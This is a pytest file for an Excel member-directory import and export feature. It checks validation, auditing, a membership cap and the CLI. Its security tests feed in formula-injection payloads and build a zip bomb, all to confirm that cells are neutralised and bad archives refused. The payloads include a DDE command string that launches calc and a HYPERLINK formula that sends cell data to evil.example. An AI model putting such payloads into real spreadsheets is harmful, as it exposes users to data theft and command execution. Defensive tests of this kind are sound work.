@@ -1,0 +1,642 @@
+"""Member directory to and from Excel: export, import, every problem located, nothing half-done."""
+
+from __future__ import annotations
+
+import datetime as dt
+import zipfile
+from decimal import Decimal
+from pathlib import Path
+from typing import Any
+
+import pytest
+from membership_builders import TODAY, member, office_user
+from openpyxl import Workbook, load_workbook
+from sqlalchemy import func, select
+
+from niro_desk import cli, excel_safety
+from niro_desk.database import Database, open_database
+from niro_desk.errors import ImportRejected
+from niro_desk.excel_safety import check_workbook_archive, safe_cell, unquote_cell
+from niro_desk.membership import member_import
+from niro_desk.membership.member_export import HEADERS, MEMBER_FIELDS, export_members
+from niro_desk.membership.member_import import (
+    CAP_EXCEEDED,
+    HEADER_ALIASES,
+    header_key,
+    import_members,
+    preview_import,
+)
+from niro_desk.membership.membership_cap import set_cap
+from niro_desk.membership.organisations import (
+    OrganisationInput,
+    create_organisation,
+    set_fee,
+)
+from niro_desk.models import (
+    AuditEntry,
+    MembershipStatus,
+    Organisation,
+    OrganisationKind,
+)
+
+YEAR_2020 = dt.date(2020, 1, 1)
+GERMAN = ["Firma", "Rechtsform", "Strasse", "PLZ", "Ort", "USt-IdNr.", "Mitarbeiter", "STATUS"]
+GERMAN += ["Aufnahmedatum", "Antragsdatum", "Gruendungsmitglied", "Jahresbeitrag", "WZ"]
+GERMAN += ["Produkte", "Materialien", "Notizen"]
+
+
+def write_workbook(
+    path: Path, headers: list[str], rows: list[list[Any]], title: str = "Mitglieder"
+) -> Path:
+    workbook = Workbook()
+    sheet = workbook.active
+    assert sheet is not None
+    sheet.title = title
+    sheet.append(headers)
+    for row in rows:
+        sheet.append(row)
+    workbook.save(path)
+    return path
+
+
+def german_row(name: str, vat: str = "", **overrides: Any) -> list[Any]:
+    values: dict[str, Any] = {
+        "Firma": name,
+        "Rechtsform": "GmbH",
+        "Strasse": "Hafenstraße 1",
+        "PLZ": "59423",
+        "Ort": "Unna",
+        "USt-IdNr.": vat,
+        "Mitarbeiter": 120,
+        "STATUS": "Mitglied",
+        "Aufnahmedatum": "01.03.2015",
+        "Antragsdatum": dt.datetime(2015, 1, 12),
+        "Gruendungsmitglied": "nein",
+        "Jahresbeitrag": "1.234,56 €",
+        "WZ": "28.41",
+        "Produkte": "Werkzeugmaschinen",
+        "Materialien": "Stahl; Strom",
+        "Notizen": "",
+    }
+    values.update(overrides)
+    return [values[header] for header in GERMAN]
+
+
+def counts(db: Database) -> tuple[int, int]:
+    """Organisations and audit entries: what an import may (not) have written."""
+    with db.reading() as session:
+        organisations = session.scalar(select(func.count()).select_from(Organisation))
+        entries = session.scalar(select(func.count()).select_from(AuditEntry))
+    return int(organisations or 0), int(entries or 0)
+
+
+def located(error: ImportRejected) -> set[tuple[str, int, str]]:
+    return {(problem.sheet, problem.row, problem.column) for problem in error.problems}
+
+
+# --- headers ---------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("language", ["de", "en"])
+def test_every_exported_header_is_accepted_by_the_importer(language: str) -> None:
+    for name in MEMBER_FIELDS:
+        assert HEADER_ALIASES[header_key(HEADERS[language][name])] == name
+
+
+def test_headers_match_regardless_of_case_umlauts_and_punctuation() -> None:
+    assert HEADER_ALIASES[header_key("GRÜNDUNGSMITGLIED")] == "founding_member"
+    assert HEADER_ALIASES[header_key("Gruendungsmitglied")] == "founding_member"
+    assert HEADER_ALIASES[header_key("Grundungsmitglied")] == "founding_member"
+    assert HEADER_ALIASES[header_key("Strasse")] == "street"
+    assert HEADER_ALIASES[header_key("ust-id-nr")] == "vat_id"
+    assert HEADER_ALIASES[header_key("vat id")] == "vat_id"
+
+
+# --- safe cells and archive checks -----------------------------------------------------------
+
+
+def test_safe_cell_neutralises_formula_starts_and_keeps_phone_numbers() -> None:
+    for text in ["=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\r=1", "- Punkt"]:
+        assert safe_cell(text) == "'" + text
+        assert unquote_cell(safe_cell(text)) == text
+    for value in ["+49 2303 123456", "-5", "Hellweg GmbH", 5, Decimal("1.50"), None, TODAY]:
+        assert safe_cell(value) == value
+    assert unquote_cell("'Ohne Formel") == "'Ohne Formel"
+
+
+def _archive(path: Path, members: dict[str, bytes]) -> Path:
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return path
+
+
+@pytest.fixture
+def parser_must_not_run(monkeypatch: pytest.MonkeyPatch) -> None:
+    def refuse(*_args: object, **_kwargs: object) -> None:
+        raise AssertionError("openpyxl must not open a refused file")
+
+    monkeypatch.setattr(member_import, "load_workbook", refuse)
+
+
+def test_non_workbooks_are_refused_before_parsing(
+    db: Database, tmp_path: Path, parser_must_not_run: None
+) -> None:
+    text = tmp_path / "mitglieder.xlsx"
+    text.write_text("Name;Ort\nHellweg GmbH;Unna\n", encoding="utf-8")
+    csv = tmp_path / "mitglieder.csv"
+    csv.write_text("Name;Ort\n", encoding="utf-8")
+    old = tmp_path / "mitglieder.xls"
+    old.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512)
+    docx = _archive(tmp_path / "brief.xlsx", {"[Content_Types].xml": b"<x/>", "word/d.xml": b""})
+    with db.reading() as session:
+        for path, words in [
+            (text, "is not an Excel workbook"),
+            (csv, "is not an Excel workbook"),
+            (old, "old Excel format"),
+            (docx, "is not an Excel workbook"),
+            (tmp_path / "missing.xlsx", "does not exist"),
+        ]:
+            with pytest.raises(ImportRejected) as raised:
+                preview_import(session, path)
+            assert words in str(raised.value)
+            assert path.name in str(raised.value)
+
+
+def test_zip_bomb_is_refused_before_parsing(
+    db: Database, tmp_path: Path, parser_must_not_run: None
+) -> None:
+    bomb = _archive(
+        tmp_path / "bomb.xlsx",
+        {
+            "[Content_Types].xml": b"<Types/>",
+            "xl/workbook.xml": b"<workbook/>",
+            "xl/worksheets/sheet1.xml": b"\0" * (20 * 1024 * 1024),
+        },
+    )
+    assert bomb.stat().st_size < 100_000
+    with db.reading() as session, pytest.raises(ImportRejected) as raised:
+        preview_import(session, bomb)
+    assert "zip bomb" in str(raised.value)
+    assert "xl/worksheets/sheet1.xml" in str(raised.value)
+
+
+def test_archive_limits_on_total_size_and_part_count(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    parts = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
+    parts |= {f"xl/media/image{n}.bin": bytes(range(256)) * 8 for n in range(20)}
+    path = _archive(tmp_path / "viele.xlsx", parts)
+    check_workbook_archive(path)  # within the real limits
+    monkeypatch.setattr(excel_safety, "MAX_MEMBERS", 10)
+    with pytest.raises(ImportRejected, match="22 parts"):
+        check_workbook_archive(path)
+    monkeypatch.setattr(excel_safety, "MAX_MEMBERS", 5_000)
+    monkeypatch.setattr(excel_safety, "MAX_UNCOMPRESSED_BYTES", 10_000)
+    with pytest.raises(ImportRejected, match="unpacked"):
+        check_workbook_archive(path)
+
+
+# --- export ----------------------------------------------------------------------------------
+
+
+def test_export_writes_typed_formatted_cells_and_neutralises_formulas(
+    db: Database, tmp_path: Path
+) -> None:
+    evil = '=HYPERLINK("http://evil.example/?x="&A2,"Hier klicken")'
+    with db.transaction() as session:
+        organisation = member(session, evil, ["25.62"], ["Drehteile"], ["Stahl"])
+        organisation.notes = "+1+cmd|' /C calc'!A0"
+        set_fee(session, office_user(session), organisation.id, YEAR_2020, Decimal("1234.50"))
+    path = tmp_path / "mitglieder.xlsx"
+    with db.reading() as session:
+        assert export_members(session, path, "de") == 1
+
+    workbook = load_workbook(path)
+    assert workbook.sheetnames == ["Mitglieder", "Warteliste", "Ansprechpartner"]
+    sheet = workbook["Mitglieder"]
+    headers = [cell.value for cell in sheet[1]]
+    assert headers == [HEADERS["de"][name] for name in MEMBER_FIELDS]
+    assert all(cell.font.b for cell in sheet[1])
+    assert sheet.freeze_panes == "A2"
+    assert sheet.auto_filter.ref == f"A1:S{sheet.max_row}"
+    row = {header: sheet.cell(row=2, column=index) for index, header in enumerate(headers, 1)}
+    assert row["Name"].data_type == "s"
+    assert row["Name"].value == "'" + evil
+    assert row["Notizen"].value == "'+1+cmd|' /C calc'!A0"
+    assert row["Aufnahmedatum"].is_date
+    assert row["Aufnahmedatum"].value.date() == TODAY
+    assert row["Aufnahmedatum"].number_format == "DD.MM.YYYY"
+    assert row["Jahresbeitrag"].value == Decimal("1234.50")
+    assert row["Jahresbeitrag"].number_format == "#,##0.00 €"
+    assert row["Status"].value == "Mitglied"
+    assert row["WZ"].value == "25.62"
+    assert sheet.column_dimensions["A"].width == 48  # long names: capped, not page-wide
+    formulas = [
+        cell.coordinate
+        for worksheet in workbook.worksheets
+        for line in worksheet.iter_rows()
+        for cell in line
+        if cell.data_type == "f"
+    ]
+    assert formulas == []
+    workbook.close()
+
+    # the neutralised name comes back as it was, matched to the same organisation
+    with db.reading() as session:
+        preview = preview_import(session, path)
+    assert preview.problems == []
+    assert [(row.name, row.action) for row in preview.rows] == [(evil, "update")]
+
+
+@pytest.mark.parametrize("language", ["de", "en"])
+def test_export_then_reimport_is_all_updates_and_changes_nothing(
+    demo_db: Database, tmp_path: Path, language: str
+) -> None:
+    path = tmp_path / f"members_{language}.xlsx"
+    calls: list[tuple[int, int]] = []
+    with demo_db.reading() as session:
+        exported = export_members(session, path, language, lambda d, t: calls.append((d, t)))
+        members = session.scalar(
+            select(func.count())
+            .select_from(Organisation)
+            .where(Organisation.membership_status == MembershipStatus.MEMBER)
+        )
+    assert exported == members and exported > 0
+    assert calls[-1][0] == calls[-1][1]
+    before = counts(demo_db)
+    with demo_db.transaction() as session:
+        preview = import_members(session, office_user(session), path, language=language)
+    assert preview.problems == []
+    assert len(preview.rows) == exported
+    assert {row.action for row in preview.rows} == {"update"}
+    assert {row.status for row in preview.rows} == {"member"}
+    # the same data again: no organisation, no audit entry added
+    assert counts(demo_db) == before
+
+
+# --- import ----------------------------------------------------------------------------------
+
+
+def test_good_german_file_imports_with_audit_entries(db: Database, tmp_path: Path) -> None:
+    path = write_workbook(
+        tmp_path / "Mitgliederliste.xlsx",
+        GERMAN,
+        [
+            german_row("Hellweg Werkzeugmaschinen GmbH", "DE123456788", Gruendungsmitglied="x"),
+            german_row(
+                "Dresdner Drehteile GmbH",
+                "DE 234 567 894",
+                PLZ=1067,
+                Ort="Dresden",
+                STATUS="Warteliste",
+                Aufnahmedatum=None,
+                Antragsdatum="15.09.2026",
+                Jahresbeitrag=None,
+                WZ=25.5,
+                Produkte="Drehteile, Präzisionsdrehteile",
+            ),
+            german_row(
+                "Ruhr Federn KG",
+                STATUS="bewerber",
+                Aufnahmedatum="",
+                Antragsdatum=dt.datetime(2026, 10, 1),
+                Jahresbeitrag=900,
+                WZ="25.93",
+                Produkte="Federn",
+            ),
+        ],
+    )
+    assert counts(db) == (0, 0)
+    progress: list[tuple[int, int]] = []
+    with db.transaction() as session:
+        preview = import_members(
+            session, office_user(session), path, lambda d, t: progress.append((d, t))
+        )
+    assert preview.problems == []
+    assert [(row.row, row.action, row.status) for row in preview.rows] == [
+        (2, "new", "member"),
+        (3, "new", "waiting"),
+        (4, "new", "applicant"),
+    ]
+    assert progress[-1] == (6, 6)
+    with db.reading() as session:
+        first = session.scalars(select(Organisation).order_by(Organisation.id)).all()
+        hellweg, dresden, federn = first
+        assert hellweg.kind == OrganisationKind.MEMBER
+        assert hellweg.membership_status == MembershipStatus.MEMBER
+        assert hellweg.vat_id == "DE123456788"
+        assert hellweg.membership is not None
+        assert hellweg.membership.admission_date == dt.date(2015, 3, 1)
+        assert hellweg.membership.application_date == dt.date(2015, 1, 12)
+        assert hellweg.membership.founding_member
+        assert [(fee.valid_from, fee.annual_fee) for fee in hellweg.membership.fees] == [
+            (dt.date(2015, 3, 1), Decimal("1234.56"))
+        ]
+        assert [code.code for code in hellweg.sales_codes] == ["28.41"]
+        assert sorted(m.name for m in hellweg.materials) == ["Stahl", "Strom"]
+        assert dresden.membership_status == MembershipStatus.WAITING
+        assert dresden.postal_code == "01067"
+        assert dresden.vat_id == "DE234567894"
+        assert [code.code for code in dresden.sales_codes] == ["25.50"]  # 25.5 in Excel
+        assert sorted(m.name for m in dresden.product_markets) == [
+            "Drehteile",
+            "Präzisionsdrehteile",
+        ]
+        assert dresden.membership is not None
+        assert dresden.membership.waiting_since == dt.datetime(2026, 9, 15, tzinfo=dt.UTC)
+        assert dresden.membership.fees == []
+        assert federn.membership_status == MembershipStatus.APPLICANT
+        assert federn.membership is not None
+        assert federn.membership.fees[0].valid_from == dt.date(2026, 10, 1)
+        actions = {(entry.entity_id, entry.action) for entry in session.scalars(select(AuditEntry))}
+        assert {
+            (hellweg.id, "create"),
+            (hellweg.id, "import"),
+            (hellweg.id, "update_membership"),
+            (hellweg.id, "fee"),
+            (hellweg.id, "update_sales"),
+            (dresden.id, "import"),
+            (federn.id, "fee"),
+        } <= actions
+        assert (federn.id, "import") not in actions  # it stays an applicant: nothing to record
+
+
+def test_update_matched_by_vat_id_renames_and_audits(db: Database, tmp_path: Path) -> None:
+    with db.transaction() as session:
+        user = office_user(session)
+        organisation = create_organisation(
+            session,
+            user,
+            OrganisationInput(
+                name="Hellweg WZM GmbH", legal_form="GmbH", vat_id="DE123456788", city="Unna"
+            ),
+            OrganisationKind.MEMBER,
+            dt.date(2015, 1, 12),
+        )
+        organisation_id = organisation.id
+    path = write_workbook(
+        tmp_path / "update.xlsx",
+        ["Name", "Legal form", "VAT ID", "City", "Status", "Admission date", "Annual fee"],
+        [
+            [
+                "Hellweg Werkzeugmaschinen GmbH",
+                None,
+                "DE123456788",
+                "Kamen",
+                "member",
+                "01.03.2015",
+                800,
+            ]
+        ],
+    )
+    with db.transaction() as session:
+        preview = import_members(session, office_user(session), path)
+    assert [(row.action, row.name) for row in preview.rows] == [
+        ("update", "Hellweg Werkzeugmaschinen GmbH")
+    ]
+    assert "Row 2: the status of Hellweg WZM GmbH changes from “applicant” to “member”." in (
+        preview.warnings
+    )
+    assert (
+        "Row 2: empty cells clear what NIRO Desk holds for Hellweg WZM GmbH in: “Legal form”."
+        in (preview.warnings)
+    )
+    with db.reading() as session:
+        organisation = session.get(Organisation, organisation_id)
+        assert organisation is not None
+        assert (organisation.name, organisation.legal_form, organisation.city) == (
+            "Hellweg Werkzeugmaschinen GmbH",
+            "",
+            "Kamen",
+        )
+        assert organisation.membership_status == MembershipStatus.MEMBER
+        assert session.scalar(select(func.count()).select_from(Organisation)) == 1
+        actions = [entry.action for entry in session.scalars(select(AuditEntry))]
+        assert actions.count("update") == 1 and "import" in actions and "fee" in actions
+
+
+def test_broken_file_reports_every_problem_where_it_is_and_writes_nothing(
+    db: Database, tmp_path: Path
+) -> None:
+    path = write_workbook(
+        tmp_path / "kaputt.xlsx",
+        GERMAN,
+        [
+            german_row("Gute Firma GmbH", "DE123456788"),
+            german_row("Falsche USt GmbH", "DE123456789"),
+            german_row("Falscher Code GmbH", WZ="25.62, 99.99"),
+            german_row("Falsches Datum GmbH", Aufnahmedatum="31.02.2015"),
+            german_row("Falscher Status GmbH", STATUS="Ehrenmitglied"),
+            german_row("gute firma gmbh"),
+            german_row("Falscher Beitrag GmbH", Jahresbeitrag="viel"),
+        ],
+    )
+    before = counts(db)
+    with pytest.raises(ImportRejected) as raised, db.transaction() as session:
+        import_members(session, office_user(session), path)
+    assert counts(db) == before
+    assert located(raised.value) == {
+        ("Mitglieder", 3, "USt-IdNr."),
+        ("Mitglieder", 4, "WZ"),
+        ("Mitglieder", 5, "Aufnahmedatum"),
+        ("Mitglieder", 6, "STATUS"),
+        ("Mitglieder", 7, "Firma"),
+        ("Mitglieder", 8, "Jahresbeitrag"),
+    }
+    assert "6 problem(s)" in str(raised.value)
+    texts = [str(problem) for problem in raised.value.problems]
+    assert texts[0].startswith("Sheet “Mitglieder”, row 3, column “USt-IdNr.”: “DE123456789”")
+    assert "“99.99” is not a NACE class" in texts[1]
+    assert "“31.02.2015” is not a date" in texts[2]
+    assert "“Ehrenmitglied” is not a membership status" in texts[3]
+    assert "Row 2 already has the name" in texts[4]
+
+    # the preview shows the same problems and still lists every row
+    with db.reading() as session:
+        preview = preview_import(session, path)
+    assert len(preview.rows) == 7
+    assert [str(p) for p in preview.problems] == texts
+
+
+def test_missing_dates_and_dates_that_contradict_the_status(db: Database, tmp_path: Path) -> None:
+    path = write_workbook(
+        tmp_path / "daten.xlsx",
+        GERMAN,
+        [
+            german_row("Ohne Aufnahme GmbH", Aufnahmedatum=None),
+            german_row("Wartet GmbH", STATUS="Warteliste"),
+            german_row("Spät beantragt GmbH", Antragsdatum="01.05.2015"),
+            german_row("Ohne Daten GmbH", STATUS="ehemalig", Aufnahmedatum=None, Antragsdatum=None),
+        ],
+    )
+    with db.reading() as session:
+        preview = preview_import(session, path)
+    assert {(p.row, p.column) for p in preview.problems} == {
+        (2, "Aufnahmedatum"),
+        (3, "Aufnahmedatum"),
+        (4, "Antragsdatum"),
+        (5, "Antragsdatum"),
+    }
+
+
+def test_import_beyond_the_cap_is_refused(db: Database, tmp_path: Path) -> None:
+    with db.transaction() as session:
+        set_cap(session, office_user(session), 2)
+        member(session, "Vorhandenes Mitglied GmbH", ["25.99"])
+    path = write_workbook(
+        tmp_path / "zu_viele.xlsx",
+        GERMAN,
+        [
+            german_row("Neu Eins GmbH", WZ="28.13", Produkte="Pumpen"),
+            german_row("Neu Zwei GmbH", WZ="22.29", Produkte="Kunststoffprofile"),
+        ],
+    )
+    before = counts(db)
+    with pytest.raises(ImportRejected) as raised, db.transaction() as session:
+        import_members(session, office_user(session), path)
+    assert counts(db) == before
+    assert [(p.row, p.column, p.template) for p in raised.value.problems] == [
+        (3, "STATUS", CAP_EXCEEDED)
+    ]
+    assert "3 members, more than the cap of 2" in str(raised.value.problems[0])
+
+    path = write_workbook(
+        tmp_path / "mit_warteliste.xlsx",
+        GERMAN,
+        [
+            german_row("Neu Eins GmbH", WZ="28.13", Produkte="Pumpen"),
+            german_row(
+                "Neu Zwei GmbH",
+                WZ="22.29",
+                Produkte="Kunststoffprofile",
+                STATUS="Warteliste",
+                Aufnahmedatum=None,
+            ),
+        ],
+    )
+    with db.transaction() as session:
+        import_members(session, office_user(session), path)
+    assert counts(db)[0] == before[0] + 2
+
+
+def test_competitor_conflicts_are_warnings_and_do_not_stop_the_import(
+    db: Database, tmp_path: Path
+) -> None:
+    with db.transaction() as session:
+        member(session, "Ruhr Drehteile GmbH", ["25.62"], ["Drehteile"])
+    path = write_workbook(
+        tmp_path / "konkurrenz.xlsx",
+        GERMAN,
+        [
+            german_row("Ruhrtal Präzisionsdrehteile GmbH", WZ="25.62", Produkte="Drehteile"),
+            german_row("Hamm Pumpen GmbH", WZ="28.13", Produkte="Hydraulikpumpen"),
+            german_row("Lippe Pumpenbau GmbH", WZ="28.13", Produkte="Pumpen"),
+            german_row("Stahlkäufer GmbH", WZ="22.29", Produkte="Profile", Materialien="Stahl"),
+        ],
+    )
+    with db.transaction() as session:
+        preview = import_members(session, office_user(session), path, language="de")
+    assert preview.problems == []
+    conflicts = [warning for warning in preview.warnings if "may compete" in warning]
+    assert len(conflicts) == 2
+    assert conflicts[0].startswith(
+        "Row 2: Ruhrtal Präzisionsdrehteile GmbH may compete with Ruhr Drehteile GmbH"
+    )
+    assert "25.62" in conflicts[0]
+    assert conflicts[1].startswith(
+        "Row 4: Lippe Pumpenbau GmbH may compete with Hamm Pumpen GmbH (row 3)"
+    )
+    assert counts(db)[0] == 5
+
+
+def test_a_customer_of_the_same_name_is_not_turned_into_a_member(
+    db: Database, tmp_path: Path
+) -> None:
+    with db.transaction() as session:
+        create_organisation(
+            session,
+            office_user(session),
+            OrganisationInput(name="Kunde GmbH"),
+            OrganisationKind.CUSTOMER,
+        )
+    path = write_workbook(tmp_path / "kunde.xlsx", GERMAN, [german_row("Kunde GmbH")])
+    with db.reading() as session:
+        preview = preview_import(session, path)
+    assert [(p.row, p.column) for p in preview.problems] == [(2, "Firma")]
+    assert "as a customer" in str(preview.problems[0])
+
+
+def test_file_without_header_row_or_rows(db: Database, tmp_path: Path) -> None:
+    no_header = write_workbook(tmp_path / "ohne.xlsx", ["Foo", "Bar"], [["a", "b"]], "Tabelle1")
+    header_only = write_workbook(tmp_path / "leer.xlsx", GERMAN, [])
+    with db.reading() as session:
+        preview = preview_import(session, no_header)
+        assert [str(p) for p in preview.problems] == [
+            "Sheet “Tabelle1”: No header row found in the first 20 rows: the import needs a"
+            " column “Name” (or “Firma”) and the other columns named as in the exported"
+            " member list."
+        ]
+        preview = preview_import(session, header_only)
+        assert [(p.row, p.column) for p in preview.problems] == [(2, "")]
+
+
+# --- command line ----------------------------------------------------------------------------
+
+
+@pytest.mark.usefixtures("qapp")
+def test_cli_dry_run_writes_nothing_then_import_writes(
+    database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = write_workbook(
+        tmp_path / "mitglieder.xlsx",
+        GERMAN,
+        [german_row("Hellweg Werkzeugmaschinen GmbH"), german_row("Kamen Stanztechnik GmbH")],
+    )
+    argv = ["--lang", "en", "--database", database_url, "members", "import", str(path)]
+    db = open_database(database_url)
+    try:
+        before = counts(db)
+        assert cli.main([*argv, "--dry-run"]) == 0
+        out = capsys.readouterr().out
+        assert "Row 2: new" in out and "Hellweg Werkzeugmaschinen GmbH" in out
+        assert "2 new, 0 to update." in out
+        assert "Dry run: nothing was written." in out
+        assert counts(db) == before
+
+        assert cli.main(argv) == 0
+        assert "2 organisations imported." in capsys.readouterr().out
+        assert counts(db)[0] == before[0] + 2
+
+        export = tmp_path / "export.xlsx"
+        assert cli.main([*argv[:4], "members", "export", str(export)]) == 0
+        assert "2 members written to" in capsys.readouterr().out
+        assert cli.main([*argv[:5], "import", str(export), "--dry-run"]) == 0
+        assert "0 new, 2 to update." in capsys.readouterr().out
+    finally:
+        db.dispose()
+
+
+@pytest.mark.usefixtures("qapp")
+def test_cli_import_with_problems_prints_each_and_exits_1(
+    database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = write_workbook(
+        tmp_path / "kaputt.xlsx",
+        GERMAN,
+        [german_row("Gut GmbH"), german_row("Schlecht GmbH", "DE123456789", WZ="99.99")],
+    )
+    db = open_database(database_url)
+    try:
+        before = counts(db)
+        code = cli.main(
+            ["--lang", "en", "--database", database_url, "members", "import", str(path)]
+        )
+        err = capsys.readouterr().err
+        assert code == 1
+        assert "kaputt.xlsx was not imported: 2 problem(s) found. Nothing was written." in err
+        assert "Sheet “Mitglieder”, row 3, column “USt-IdNr.”:" in err
+        assert "Sheet “Mitglieder”, row 3, column “WZ”: “99.99” is not a NACE class" in err
+        assert counts(db) == before
+    finally:
+        db.dispose()
